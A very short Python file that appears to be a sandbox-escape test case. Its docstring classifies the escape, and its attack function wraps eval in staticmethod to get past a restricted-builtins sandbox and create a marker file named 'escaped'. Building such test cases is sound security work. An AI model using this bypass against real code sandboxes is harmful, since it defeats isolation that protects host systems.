"""Class: class machinery. Source: own find. Escape: a staticmethod object of what is not listed is
called."""


def attack(model, tokenizer, address):
    staticmethod(eval)("open('escaped', 'w').close()")
